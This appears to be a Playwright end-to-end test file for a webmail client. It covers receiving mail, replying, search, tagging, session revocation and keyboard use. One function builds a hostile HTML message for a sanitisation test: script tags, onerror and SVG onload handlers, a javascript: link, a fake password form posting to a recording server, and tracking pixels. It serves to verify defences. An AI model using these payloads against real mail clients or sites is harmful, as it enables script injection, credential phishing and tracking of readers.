/**
 * The end-to-end scenario of issue 9, steps 1 to 8 (step 9, axe on every screen, is a11y.spec.ts).
 *
 * Needs the discussion list, view and live updates (F1) and compose, search, tags and settings
 * (F2): both tests are tagged and fail until those screens are merged.
 * The @smoke test (sign in, read, reply) is the one pass on the distributed backend.
 */
import { expect, test, type Page } from "@playwright/test";
import { apiAs, discussionLink, discussionList, loadedMailFrames, signIn } from "./app";
import { composeForm, receivedThroughRelay, relayLogShowsSent, shortenUndo, tabTo } from "./compose";
import { address, baseUrl, recorder } from "./env";
import { NOTHING_ESCAPED, watchForEscapes } from "./guards";
import { deliver } from "./lmtp";
import { mail, token } from "./mail";
import { recorded, recordedSince } from "./recorder";

const R = recorder.https;

/** Step 2's message: remote image, tracking pixel, and every script vector the issue names,
 * each of which would set `top.__pwned`, open a dialog, or call the recording server. */
function hostileHtml(keyword: string): string {
  return `<!doctype html><html><head>
<style>body { background: url(${R}/css-url.png); }</style>
</head><body>
<p>Hello Alice, the minutes of the board meeting are below (${keyword}).</p>
<img src="${recorder.http}/remote-image.png" alt="The board" width="240" height="120">
<img src="${R}/pixel.gif?u=alice" width="1" height="1" alt="">
<script>top.__pwned = "script"; alert("script"); fetch("${R}/script-ran");</script>
<img src="data:," onerror="top.__pwned = 'onerror'; alert('onerror')" alt="broken">
<p><a id="js-link" href="javascript:top.__pwned='javascript-link';alert('javascript link')">Open the minutes</a></p>
<form action="${R}/form" method="post"><input name="password" value="hunter2"><button type="submit">Confirm your password</button></form>
<div style="background-image: url(${R}/inline-style.png)">Styled paragraph</div>
<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="top.__pwned='svg-onload'">
  <script>top.__pwned = "svg-script"; alert("svg script");</script>
  <circle cx="10" cy="10" r="8" fill="red"/>
</svg>
</body></html>`;
}

/** The discussion at `url` holds `count` messages from `sender`. The sent copy is stored by the
 * server's delivery pipeline after the send returns, so the view is loaded again until it does. */
async function expectMessagesFrom(page: Page, url: string, sender: RegExp, count: number): Promise<void> {
  await expect(async () => {
    await page.goto(url);
    await page.reload();
    // Short, so that a view loaded before the copy was stored is simply loaded again.
    await expect(page.getByRole("article", { name: sender })).toHaveCount(count, { timeout: 2_000 });
  }).toPass();
}

test("the issue's scenario: hostile mail, reply, search, tag, revoke, keyboard", async ({
  page,
  browser,
}) => {
  const alice = address("alice");
  const mallory = address("mallory");
  const keyword = token("kestrel");
  const subject = `Board minutes ${keyword}`;
  const appOrigin = new URL(baseUrl).origin;
  const escapes = watchForEscapes(page, appOrigin);
  await shortenUndo(page);
  let loads = 0;
  page.on("load", () => loads++);

  await test.step("1. sign in", async () => {
    await signIn(page, "alice");
  });

  const before = recorded().length;
  await test.step("2. a hostile message delivered over LMTP appears without a reload", async () => {
    const loadsBefore = loads;
    await deliver(
      [alice],
      mail({ from: `Mallory Knox <${mallory}>`, to: alice, subject, html: hostileHtml(keyword) }),
      mallory,
    );
    await expect(discussionLink(page, subject)).toBeVisible();
    expect(loads, "the page was not reloaded").toBe(loadsBefore);
  });

  let discussionUrl = "";
  await test.step("3. opening it runs no script and fetches nothing; load remote content fetches the image through our proxy", async () => {
    await discussionLink(page, subject).click();
    await expect(page.getByRole("heading", { level: 1, name: subject })).toBeVisible();
    discussionUrl = page.url();
    await loadedMailFrames(page);
    await expect(page.getByText(/Remote content blocked: \d+ items?, \d+ trackers?\./)).toBeVisible();
    // Following the javascript: link runs nothing either.
    const mailFrame = page.frameLocator('iframe[title="Message content"]').first();
    await mailFrame.getByText("Open the minutes").click();
    expect(await escapes.report()).toEqual(NOTHING_ESCAPED);
    expect(recordedSince(before), "requests that reached the recording server").toEqual([]);

    await page.getByRole("button", { name: "Load remote content" }).click();
    const imageRequests = () =>
      recordedSince(before).filter((r) => r.kind === "request" && r.path === "/remote-image.png");
    await expect.poll(() => imageRequests().length).toBeGreaterThan(0);
    // The server's image proxy fetched it, not the browser: its bare User-Agent (the browser's
    // names Chrome), and no cookie or referrer that would tell the sender who looked.
    const browserAgent = await page.evaluate(() => navigator.userAgent);
    for (const r of imageRequests()) {
      expect(r.userAgent).toBe("Mozilla/5.0");
      expect(r.userAgent).not.toBe(browserAgent);
      expect(r.cookie ?? null).toBeNull();
      expect(r.referer ?? null).toBeNull();
    }
    await expect(
      page.frameLocator('iframe[title="Message content"]').first().getByRole("img", { name: "The board" }),
    ).toHaveJSProperty("naturalWidth", 1);
    const report = await escapes.report();
    expect(report.flags, "no script ran after loading remote content").toEqual([]);
    expect(report.dialogs).toEqual([]);
    expect(
      recordedSince(before).filter((r) => r.path?.startsWith("/script-ran") || r.path?.startsWith("/form")),
    ).toEqual([]);
  });

  await test.step("4. reply with an attachment: it joins the discussion and the relay delivers it", async () => {
    await page.getByRole("article", { name: /Mallory/ }).getByRole("button", { name: "Reply", exact: true }).click();
    const compose = composeForm(page);
    const body = compose.getByRole("textbox", { name: "Message" });
    await body.focus();
    await page.keyboard.press("Control+Home");
    await page.keyboard.type(`Thanks, noted (${keyword}). Agenda attached.\n`);
    await compose.getByLabel("Attach files").setInputFiles({
      name: "agenda.txt",
      mimeType: "text/plain",
      buffer: Buffer.from(`Agenda for ${keyword}\n1. Minutes\n2. Budget\n`),
    });
    await expect(
      compose.getByRole("list", { name: "Attached files" }).getByText("agenda.txt", { exact: true }),
    ).toBeVisible();
    await expect(compose.getByRole("alert").filter({ hasText: "agenda.txt" })).toHaveCount(0);
    await compose.getByRole("button", { name: "Send" }).click();
    await expect(page.getByText("Message sent.")).toBeVisible();
    // Wherever compose leaves the user, the discussion now holds the reply.
    await expectMessagesFrom(page, discussionUrl, /alice/i, 1);

    const { api } = await apiAs("mallory");
    const received = await receivedThroughRelay(api, `Re: ${subject}`);
    expect(received.attachments.map((a) => a.file_name)).toContain("agenda.txt");
    await api.dispose();
    expect(relayLogShowsSent(mallory), "Postfix logged the delivery to mallory").toBe(true);
  });

  await test.step("5. search finds the reply, and the From chip narrows the results", async () => {
    const box = page.getByRole("searchbox", { name: "Search mail" });
    const results = page.getByRole("list", { name: "Search results" });
    // The index catches up in the background: search again until both messages are found.
    await expect(async () => {
      await box.fill(keyword);
      await box.press("Enter");
      // Short, so that a search answered before the index caught up is simply asked again.
      await expect(results.getByRole("listitem")).toHaveCount(2, { timeout: 2_000 });
    }).toPass();
    await expect(results).toContainText(`Re: ${subject}`);
    await page.getByRole("button", { name: "From" }).click();
    const from = page.getByRole("textbox", { name: "From" });
    await from.fill(alice);
    await from.press("Enter");
    await expect(page.getByRole("button", { name: "From" })).toHaveAttribute("aria-pressed", "true");
    await expect(results.getByRole("listitem")).toHaveCount(1);
    await expect(results).toContainText(`Re: ${subject}`);
  });

  const tag = token("Board");
  await test.step("6. tag the discussion: the tag shows in the list", async () => {
    await page.goto("/#/tags");
    await page.getByRole("textbox", { name: "New tag name" }).fill(tag);
    await page.getByRole("button", { name: "Create tag" }).click();
    await expect(page.getByRole("button", { name: `Rename ${tag}` })).toBeVisible();
    await page.goto(discussionUrl);
    await page.getByRole("button", { name: "Tag…" }).click();
    await page.getByRole("checkbox", { name: tag }).or(page.getByRole("menuitemcheckbox", { name: tag })).click();
    await page.getByRole("button", { name: "Apply" }).click();
    await page.getByRole("button", { name: "Back to list" }).click();
    await expect(discussionList(page).getByRole("listitem").filter({ hasText: subject })).toContainText(tag);
  });

  await test.step("7. revoking a second session in settings signs it out at its next request", async () => {
    const other = await browser.newContext();
    const second = await other.newPage();
    await signIn(second, "alice");
    await page.goto("/#/settings");
    await expect(page.getByText("This device")).toBeVisible();
    const revoke = page.getByRole("button", { name: "Revoke" });
    await expect(revoke).toHaveCount(1);
    await revoke.click();
    await expect(revoke).toHaveCount(0);
    await second.reload();
    await expect(second.getByText("Your session ended. Please sign in again.")).toBeVisible();
    await other.close();
  });

  await test.step("8. keyboard only: list, open, reply, send", async () => {
    await page.goto("/#/");
    await expect(discussionLink(page, subject)).toBeVisible();
    await page.keyboard.press("j");
    await page.keyboard.press("o");
    await expect(page.getByRole("heading", { level: 1, name: subject })).toBeVisible();
    await page.keyboard.press("r");
    const compose = composeForm(page);
    await expect(compose).toBeVisible();
    await tabTo(page, compose.getByRole("textbox", { name: "Message" }));
    await page.keyboard.press("Control+Home");
    await page.keyboard.type(`Sent from the keyboard (${keyword}).\n`);
    await tabTo(page, compose.getByRole("button", { name: "Send" }));
    await page.keyboard.press("Enter");
    await expect(page.getByText("Message sent.")).toBeVisible();
    await expectMessagesFrom(page, discussionUrl, /alice/i, 2);
  });

  const final = await escapes.report();
  expect(final.flags).toEqual([]);
  expect(final.dialogs).toEqual([]);
  expect(final.popups).toEqual([]);
});

/** Sign in, read and reply, through the relay: the one pass on the distributed backend. */
test("@smoke sign in, read a message and reply to it", async ({ page }) => {
  const grace = address("grace");
  const mallory = address("mallory");
  const keyword = token("heron");
  const subject = `Lunch on Friday ${keyword}`;
  await shortenUndo(page);
  await deliver(
    [grace],
    mail({
      from: `Mallory Knox <${mallory}>`,
      to: grace,
      subject,
      text: `Shall we meet at noon? (${keyword})`,
      html: `<p>Shall we meet at <b>noon</b>? (${keyword})</p>`,
    }),
    mallory,
  );
  await signIn(page, "grace");
  await discussionLink(page, subject).click();
  await expect(page.getByRole("heading", { level: 1, name: subject })).toBeVisible();
  await loadedMailFrames(page);
  await expect(page.frameLocator('iframe[title="Message content"]').first().getByText("noon")).toBeVisible();

  await page.getByRole("button", { name: "Reply", exact: true }).first().click();
  const compose = composeForm(page);
  const body = compose.getByRole("textbox", { name: "Message" });
  await body.focus();
  await page.keyboard.press("Control+Home");
  await page.keyboard.type(`Noon works (${keyword}).\n`);
  await compose.getByRole("button", { name: "Send" }).click();
  await expect(page.getByText("Message sent.")).toBeVisible();

  const { api } = await apiAs("mallory");
  await receivedThroughRelay(api, `Re: ${subject}`);
  await api.dispose();
});
